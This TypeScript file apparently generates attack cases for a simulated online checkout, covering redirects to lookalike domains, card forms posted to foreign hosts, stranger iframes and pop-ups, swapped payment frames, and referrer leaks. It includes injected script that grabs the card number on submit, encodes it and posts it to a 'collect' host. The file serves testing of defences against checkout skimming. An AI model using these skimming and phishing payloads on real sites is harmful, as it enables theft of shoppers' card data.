import type { Attack, Redirect, Rules, ShopCase, Slot } from '../shop/shop-case.ts';

const family = 'elsewhere';
const LOOKALIKES = ['harb0ur-goods', 'harbour-goods-pay', 'secure.harbour-goods.checkout', 'xn--harbur-goods-ndb'];
const WAYS: readonly Redirect['how'][] = ['302', '307', 'meta', 'refreshHeader', 'script', 'delayedScript'];

const redirects = (['cart', 'checkout', 'payment', 'review'] as const).flatMap((at, row) =>
  WAYS.map(
    (how, column): Attack => ({
      family,
      name: `${how} at ${at}`,
      rules: { layout: 'steps', redirect: { at, how, to: LOOKALIKES[(row + column) % LOOKALIKES.length] as string } },
    }),
  ),
);
const onePageRedirects = WAYS.map(
  (how, at): Attack => ({
    family,
    name: `${how} at the one-page checkout`,
    rules: { redirect: { at: 'checkout', how, to: LOOKALIKES[at % 4] as string } },
  }),
);

const actions = (['action', 'formaction', 'onsubmit', 'onfocus'] as const).flatMap((cardActionBy) =>
  (['onePage', 'steps'] as const).map(
    (layout): Attack => ({
      family,
      name: `the card form goes elsewhere by ${cardActionBy}, ${layout}`,
      rules: { layout, cardActionBy, cardActionHost: 'collect' },
    }),
  ),
);

/** A visible frame of a stranger that asks for the card although the checkout has its own form for it. */
const frames = (['top', 'contact', 'payment', 'paymentOutside', 'summary', 'bottom'] as const).flatMap((slot: Slot) =>
  [320, 90].map(
    (height): Attack => ({
      family,
      name: `a stranger’s card form in a frame, ${slot}, ${height} high`,
      slots: {
        [slot]: (shop: ShopCase) =>
          `<iframe src="${shop.origin('win-a-prize')}/claim" style="width:400px;height:${height}px"></iframe>`,
      },
    }),
  ),
);

const script = (code: string) => `<script>${code}</script>`;
const popups: readonly Attack[] = [
  ['a pop-up at the checkout', (to: string) => script(`open('${to}/verify')`)],
  [
    'a pop-up at the first click',
    (to: string) => script(`addEventListener('click', () => open('${to}/verify'), { once: true })`),
  ],
  ['the base address of the page is elsewhere', (to: string) => `<base href="${to}/">`],
  [
    'a link asks to verify the card first',
    (to: string) => `<p><a class="button" href="${to}/verify">Verify your card to continue</a></p>`,
  ],
  [
    'a whole-page link over everything',
    (to: string) => `<a href="${to}/verify" style="position:fixed;inset:0;z-index:9">&nbsp;</a>`,
  ],
].flatMap(([name, write]) =>
  (['onePage', 'steps'] as const).map((layout): Attack => {
    const rules: Rules = { layout };
    const markup = write as (to: string) => string;
    return {
      family,
      name: `${name}, ${layout}`,
      rules,
      slots: {
        [name === 'the base address of the page is elsewhere' ? 'head' : 'checkoutTop']: (shop: ShopCase) =>
          markup(shop.origin('verify-card')),
      },
    };
  }),
);

/** A frame that is the provider's while it is looked at and a stranger's while it is typed into. */
const turningFrames = (['focus', 'input', 'timer'] as const).flatMap((frameTurns) =>
  (['onePage', 'steps'] as const).map(
    (layout): Attack => ({
      family,
      name: `the provider’s frame becomes a stranger’s on ${frameTurns}, ${layout}`,
      rules: { layout, cardFrameHost: 'card-fields', frameTurns },
    }),
  ),
);

/** The number is copied when the form is sent, written in another way each time, and taken along by a second form. */
const COPIES: Readonly<Record<string, string>> = {
  'as it is': 'n',
  'in halves': "n.slice(0, 8) + '&b=' + n.slice(8)",
  'as base64': 'btoa(n)',
  backwards: "[...n].reverse().join('')",
};
const copies = Object.entries(COPIES).flatMap(([name, code]) =>
  (['_blank', 'sink'] as const).map(
    (target): Attack => ({
      family,
      name: `a second form takes the number ${name} into ${target}`,
      slots: {
        payment: (shop: ShopCase) =>
          `<iframe name="sink" hidden></iframe>${script(`addEventListener('submit', () => { const n = document.querySelector('#card_number').value.replace(/\\D/g, ''); const f = document.createElement('form'); f.method = 'post'; f.target = '${target}'; f.action = '${shop.origin('collect')}/pay?a=' + ${code}; document.body.append(f); f.submit(); });`)}`,
      },
    }),
  ),
);

/** A number in an address leaks to every site whose picture the next page shows. */
const inAddress = (['onePage', 'steps'] as const).map(
  (layout): Attack => ({
    family,
    name: `the card form is sent within the address, ${layout}`,
    rules: { layout, cardMethod: 'get' },
    slots: {
      head: () => '<meta name="referrer" content="unsafe-url">',
      bottom: (shop: ShopCase) => `<img src="${shop.origin('metrics')}/pixel.gif" alt="">`,
    },
  }),
);

export const elsewhere: readonly Attack[] = [
  ...redirects,
  ...onePageRedirects,
  ...actions,
  ...frames,
  ...popups,
  ...turningFrames,
  ...copies,
  ...inAddress,
];
